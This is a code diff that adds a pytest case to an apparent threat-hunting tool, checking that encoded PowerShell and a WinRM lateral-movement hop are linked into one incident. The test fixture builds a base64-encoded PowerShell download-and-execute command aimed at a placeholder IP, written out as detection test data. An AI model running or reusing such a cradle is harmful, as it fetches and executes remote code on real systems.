@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from types import SimpleNamespace
 from typing import Any
 
@@ -9,13 +10,14 @@ import polars as pl
 import pytest
 
 from graphhunt.incidents.files import Arrivals
+from graphhunt.incidents.find import Options, find
 from graphhunt.incidents.lead import Lead
 from graphhunt.incidents.leads.network import network_leads
 from graphhunt.incidents.links import links_of
 from graphhunt.incidents.networks import Networks
 from graphhunt.incidents.score import score
 
-from .made import MINUTE, flow, process, tables
+from .made import MINUTE, commands, flow, process, tables
 
 OUTSIDE = SimpleNamespace(outside={"203.0.113.9": ("named",)}, flows_only=False)
 
@@ -103,3 +105,21 @@ def test_a_hop_that_a_sensor_saw_belongs_to_the_interpreter_that_opened_it() -> 
     links = links_of(known, Networks(known), Arrivals(known))
     sensed = links.filter(pl.col("kind") == "machine")
     assert sensed.select("a", "b").rows() == [("process|m|powershell.exe", "host|10.0.0.2")]
+
+
+def test_where_one_end_logs_the_hop_joins_what_its_process_did() -> None:
+    """A mixed estate: 10.0.0.1 is m, which logs; 10.0.0.2 logs nothing, and a sensor between them saw the hop."""
+    token = base64.b64encode("IEX (iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
+    shell = process("powershell.exe", f"powershell -enc {token}")
+    opened = {"id": "c", "from_id": shell["id"], "to_id": "10.0.0.2", "start": 0, "end": 0, "remote_port": 5985,
+              "direction": "outgoing", "machine_id": "m", "evidence": ["e c"]}  # fmt: skip
+    known = commands(
+        shell, CONNECTED=[opened], FLOWED_TO=[flow("10.0.0.1", "10.0.0.2", 5985)], Machine=[{"id": "m", "name": "m"}],
+        HAD_IP=[{"id": "h", "from_id": "m", "to_id": "10.0.0.1"}],
+    )  # fmt: skip
+    (incident,) = find(known, Options()).incidents
+    told = incident.story(1)
+    assert told["kinds"] == {"encoded_command": 1, "network_winrm": 1}
+    assert (told["class"], told["machines"], told["unknown_machines"]) == ("E", ["m"], ["10.0.0.2"])
+    assert (told["techniques"], told["consistent_with"]) == ([], ["T1021.006"])
+    assert {step["machine"]: step["sensed"] for step in told["steps"]} == {"m": False, "10.0.0.2": True}
